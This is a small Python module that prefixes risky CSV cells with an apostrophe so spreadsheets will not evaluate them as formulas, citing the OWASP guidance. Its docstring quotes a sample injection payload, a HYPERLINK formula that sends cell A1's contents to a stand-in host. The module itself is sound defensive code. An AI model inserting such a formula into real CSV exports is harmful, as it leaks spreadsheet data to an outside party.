"""CSV cells a spreadsheet will not run: the OWASP rule against formula injection.

A customer's comment `=HYPERLINK("http://evil.example/?d="&A1,"Click for refund")` written as
it is into a CSV becomes a live formula when an owner opens the file. Every text cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe, which
spreadsheets show as text and do not display.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(_TRIGGERS):
        return "'" + value
    return value  # numbers stay numbers: -3 is not a formula


def row(values: Iterable[Any]) -> list[Any]:
    return [cell(v) for v in values]


def record(values: Mapping[str, Any]) -> dict[str, Any]:
    return {key: cell(v) for key, v in values.items()}
